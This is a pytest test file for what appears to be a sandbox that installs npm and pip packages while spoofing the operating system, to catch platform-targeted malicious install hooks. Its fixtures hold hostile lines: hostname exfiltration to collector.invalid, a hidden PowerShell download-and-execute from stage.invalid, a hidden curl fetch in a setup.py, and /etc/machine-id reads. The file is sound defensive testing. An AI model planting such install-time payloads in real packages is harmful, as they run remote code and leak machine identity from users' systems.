# SPDX-License-Identifier: Apache-2.0
"""Real installs in which Node and Python say that they run on another system."""

from __future__ import annotations

import json
import tarfile
from collections.abc import Mapping
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from local_packages import Npm, npm_project

if TYPE_CHECKING:
    from conftest import Fpbox
else:
    Fpbox = Any

pytestmark = [pytest.mark.docker, pytest.mark.usefixtures("nothing_left"), pytest.mark.timeout(900)]

NPM = ("npm", "install", "--offline", "--no-audit", "--no-update-notifier")
SEND = "require('http').get('http://collector.invalid/' + require('os').hostname()).on('error', () => {});"
ON = "if (process.platform === '{}') {{ {} }}"
LINE = 'powershell -WindowStyle Hidden -Command "iwr http://stage.invalid/a | iex"'
RUNS = f"require('child_process').exec({LINE!r});"
MODULE = """
import { platform, type, EOL } from 'node:os';
import os from 'node:os';
import { readFileSync, writeSync } from 'node:fs';
const named = [platform(), type(), `${os.type}`, os.platform()].join();
if (named === 'win32,Windows_NT,Windows_NT,win32' && EOL === '\\r\\n') readFileSync('/etc/machine-id');
"""
FAILS = "if (process.platform !== 'linux') process.exit(1);"
SETUP = """
import os, platform, subprocess, sys
from setuptools import setup
if os.name == "nt" and sys.platform == "win32" and platform.system() == "Windows":
    file = os.path.join(os.environ["APPDATA"], "update.txt")
    fetch = f"curl -s -o {file} http://files.invalid/$(hostname)"
    subprocess.Popen(fetch, shell=True, creationflags=subprocess.CREATE_NO_WINDOW).wait()
setup(name="snake", version="1.0.0", packages=["snake"])
"""
LOADED = """
import asyncio, pathlib, subprocess, sys
if sys.platform == "win32":
    open("/etc/machine-id").read()
"""


def project(folder: Path, packages: Mapping[str, tuple[str, str]]) -> Path:
    """Make a project of local packages: a postinstall's file name, and what is in it."""
    made = {
        name: Npm("" if file.startswith("main") else f"node {file}", {file: script}, {"main": file})
        for name, (file, script) in packages.items()
    }
    return npm_project(folder, made)


def run(fpbox: Fpbox, where: Path, system: str, *command: str) -> dict[str, Any]:
    persona = f"developer+system={system}" if system else "developer"
    options = ("--import", "--linger", "1", "--persona", persona, "-o", f"json={fpbox.report_file}")
    done = fpbox("run", *options, "--", *command, cwd=where)
    assert done.returncode in (0, 3), done.stderr
    return fpbox.report


def found(report: dict[str, Any], name: str) -> dict[str, str]:
    """Return the recipes that a package shows, with their importance."""
    named = (one for one in report["packages"] if one["purl"].partition("/")[2].startswith(f"{name}@"))
    package = next(named, {"findings": []})
    return {one["recipe"]: one["importance"] for one in package["findings"] if not one["explained"]}


PACKAGES = {
    "windows": ("index.js", ON.format("win32", SEND)),
    "apple": ("index.js", ON.format("darwin", SEND)),
    "shell": ("index.js", ON.format("win32", RUNS)),
    "module": ("index.mjs", MODULE),
    "loaded": ("main.js", ON.format("win32", SEND)),
    "honest": ("index.js", FAILS),
    "late": ("index.js", "require('fs').readFileSync('/etc/machine-id')"),
}


@pytest.mark.parametrize(
    ("system", "sent"),
    [("windows", {"windows", "loaded"}), ("macos", {"apple"}), ("", set())],
)
def test_what_a_package_keeps_for_another_system_shows_itself_there(
    fpbox: Fpbox, tmp_path: Path, system: str, sent: set[str]
) -> None:
    report = run(fpbox, project(tmp_path, PACKAGES), system, *NPM)
    assert {name for name in PACKAGES if "identity_exfiltrated" in found(report, name)} == sent
    assert (found(report, "shell").get("foreign_command") == "high") is (system == "windows")
    assert ("machine_fingerprint" in found(report, "module")) is (system == "windows")
    assert "machine_fingerprint" in found(report, "late"), "what fails as another system ends no install"
    notes = " ".join(report["coverage"]["notes"])
    assert ("which the box is not" in notes) is bool(system)
    assert report["coverage"]["complete"]


def test_python_says_so_to_a_packages_own_code_and_builds_for_what_is_there(
    fpbox: Fpbox, tmp_path: Path
) -> None:
    where = tmp_path / "app"
    (where / "snake" / "snake").mkdir(parents=True)
    (where / "snake" / "setup.py").write_text(SETUP)
    (where / "snake" / "snake" / "__init__.py").write_text(LOADED)
    archive = where / "snake-1.0.0.tar.gz"
    with tarfile.open(archive, "w:gz") as packed:
        packed.add(where / "snake", "snake-1.0.0")
    command = ("pip", "install", "--no-build-isolation", "--no-deps", "--no-index", f"./{archive.name}")
    report = run(fpbox, where, "windows", *command)
    assert report["run"]["exit_code"] == 0
    assert {"network_tool", "identity_exfiltrated", "machine_fingerprint"} <= found(report, "snake").keys()
    report = run(fpbox, where, "", *command)
    assert not {"network_tool", "identity_exfiltrated", "machine_fingerprint"} & found(report, "snake").keys()


def test_a_comparison_names_what_is_done_as_another_system_only(fpbox: Fpbox, tmp_path: Path) -> None:
    """One that fails there and one that does the same everywhere are told from one that acts there."""
    chosen = {name: PACKAGES[name] for name in ("windows", "honest", "late")}
    file = fpbox.folder / "comparison.json"
    options = ("--linger", "1", "--json", str(file), "--vary", "system=windows")
    done = fpbox("compare", *options, "--", *NPM, cwd=project(tmp_path, chosen))
    assert done.returncode == 3, done.stderr
    compared = json.loads(file.read_bytes())
    assert compared["flagged"] == ["pkg:npm/windows@1.0.0"]
    targeted = {
        one["purl"]
        for one in compared["packages"]
        if any(finding["recipe"] == "targeted_behaviour" for finding in one["findings"])
    }
    assert targeted == {"pkg:npm/windows@1.0.0"}
